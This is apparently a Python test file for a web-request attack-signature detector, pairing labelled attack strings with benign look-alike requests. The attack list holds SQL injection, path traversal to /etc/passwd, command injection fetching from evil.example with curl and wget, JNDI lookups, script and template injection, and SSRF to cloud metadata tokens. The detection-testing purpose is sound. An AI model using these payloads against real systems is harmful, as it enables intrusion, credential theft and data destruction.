"""Signatures fire on attacks as they are logged, encoded or not, and keep quiet on what people really request."""

import base64
import uuid

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors.signatures import SIGNATURES, signature_kind, signature_kinds

ATTACKS = [
    ("/api/items?id=1' OR '1'='1", "sql injection"),
    ("/api/items?id=1%27%20OR%20%271%27%3D%271", "sql injection"),
    ("/api/items?id=1%2527%2520OR%25201%253D1--", "sql injection"),
    ("/api/items?id=-1 UNION ALL SELECT username,password FROM users", "sql injection"),
    ("/api/items?id=1/**/UNION/**/SELECT/**/1,2,3", "sql injection"),
    ("/api/items?id=1;DROP TABLE orders", "sql injection"),
    ("/api/items?id=1'; WAITFOR DELAY '0:0:5'--", "sql injection"),
    ("/api/items?id=1 AND SLEEP(5)", "sql injection"),
    ("/api/items?id=1 AND (SELECT SLEEP(10))", "sql injection"),
    ("/api/items?id=pg_sleep(10)", "sql injection"),
    ("/api/items?user=admin'--", "sql injection"),
    ("/api/items?q=1+or+1%3D1", "sql injection"),
    ("/api/files/../../etc/passwd", "path traversal"),
    ("/api/files/..%2f..%2f..%2fhome", "path traversal"),
    ("/api/files/%252e%252e%252fsecret", "path traversal"),
    ("/api/files?name=..\\..\\windows\\win.ini", "path traversal"),
    ("/api/files?name=/etc/passwd", "path traversal"),
    ("/api/ping?host=1.1.1.1;cat /etc/hostname", "command injection"),
    ("/api/ping?host=1.1.1.1|whoami", "command injection"),
    ("/api/ping?host=$(curl http://evil.example/x)", "command injection"),
    ("/api/ping?host=`id`", "command injection"),
    ("/api/ping?host=x%0aid", "command injection"),
    ("/api/ping?host=a%26%26wget+http://evil.example/x", "command injection"),
    ("/api/login?user=${jndi:ldap://evil.example/a}", "jndi lookup"),
    ("/api/login?user=$%7Bjndi:ldap://evil.example/a%7D", "jndi lookup"),
    ("${${lower:j}ndi:${lower:l}dap://evil.example/a}", "jndi lookup"),
    ("/search?q=<script>alert(1)</script>", "script injection"),
    ("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "script injection"),
    ("/search?next=javascript:alert(1)", "script injection"),
    ("/hello?name={{7*7}}", "template injection"),
    ("/hello?name=${7*7}", "template injection"),
    ("/hello?name={{''.__class__.__mro__}}", "template injection"),
    ("/fetch?url=http://169.254.169.254/metadata/identity/oauth2/token", "ssrf metadata"),
    ("/fetch?url=http%3A%2F%2Fmetadata.google.internal%2F", "ssrf metadata"),
    ("/fetch?url=http://127.0.0.1:8080/admin", "ssrf metadata"),
    ("/.git/config", "secret file probe"),
    ("/.env", "secret file probe"),
    ("/wp-login.php", "secret file probe"),
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner tool"),
]

BENIGN = [
    "/",
    "/api/orders",
    "/api/orders/3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "/api/orders/12345?status=open&sort=-created",
    "/api/orders?select=id,name&from=2024-01-01&where=helsinki",
    "/api/orders?$filter=name eq 'O''Brien' and price gt 5",
    "/api/orders?$select=id&$orderby=name desc&$top=10",
    "/api/search?q=rock+and+roll",
    "/api/search?q=romeo%20and%20juliet%20or%20hamlet",
    "/api/search?q=union+square+selection",
    "/api/search?q=student+union+select+committee",
    "/api/search?q=how+to+drop+a+table+off",
    "/api/people/O'Brien",
    "/api/people/d%27Artagnan",
    "/api/people?name=Jean-Luc--Marie",
    "/api/files/report..final.pdf",
    "/api/files/v1.2..v1.3/diff",
    "/api/files/My%20Report%20(final).pdf",
    "/api/blob/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc_DEF-123",
    "/api/blob/AAECAwQFBgcICQoLDA0ODw==",
    "/api/things;version=2/list",
    "/api/items?ids=1;2;3",
    "/api/items?a=1&id=5&ls=3&env=prod",
    "/api/items?tags=a|b|c",
    "/login?redirect_uri=http://127.0.0.1:53682/callback",
    "/login?returnUrl=https%3A%2F%2Fwww.example.com%2Fhome",
    "/api/{{baseUrl}}/items",
    "/api/templates/{id}/render",
    "/api/metadata/schema",
    "/api/metadata/instances",
    "/.well-known/openid-configuration",
    "/api/environment",
    "/api/emails/ann+test@example.org",
    "/api/math?expr=a<b",
    "/api/shell/curly",
    "/api/docs/javascript-basics",
    "/api/versions/2024.01.02-rc.1",
    "/api/price?amount=$5",
    "/api/price?range=(10,20)",
    "Executed 'Functions.Hello' (Succeeded, Id=1, Duration=16ms)",
    "Result: Failure\nException: ValueError: invalid literal for int() with base 10: 'abc'",
    "The operation was canceled; id 5 and id = 7",
    "Timeout expired. The timeout period elapsed prior to completion; see inner exception.",
]


@pytest.mark.parametrize(("text", "kind"), ATTACKS)
def test_an_attack_is_known_by_its_kind(text, kind):
    assert SIGNATURES[signature_kind(text)] == kind


@pytest.mark.parametrize("text", BENIGN)
def test_an_ordinary_text_is_no_attack(text):
    assert SIGNATURES[signature_kind(text)] == "none"


@given(st.binary(max_size=60))
def test_base64_of_anything_is_no_attack(data):
    encoded = base64.urlsafe_b64encode(data).decode()
    assert signature_kind(f"/api/blob/{encoded}") == 0


@given(st.uuids(), st.from_regex(r"[a-z0-9]+(-[a-z0-9]+){0,5}", fullmatch=True))
def test_ids_and_slugs_are_no_attack(key: uuid.UUID, slug):
    assert signature_kind(f"/api/posts/{slug}/{key}") == 0


def test_an_array_gives_the_kinds_of_its_texts_one_by_one():
    texts = [text for text, _ in ATTACKS] + BENIGN
    kinds = signature_kinds(pa.array([*texts, None, texts[0]]))
    assert kinds.dtype == np.int8
    assert kinds.tolist() == [*(signature_kind(text) for text in texts), 0, signature_kind(texts[0])]


def test_nothing_but_nulls_is_no_attack():
    assert signature_kinds(pa.nulls(3, pa.string())).tolist() == [0, 0, 0]


@given(st.text(max_size=200))
def test_the_quick_scan_misses_nothing_that_the_slow_one_finds(text):
    assert signature_kinds(pa.array([text])).tolist() == [signature_kind(text)]
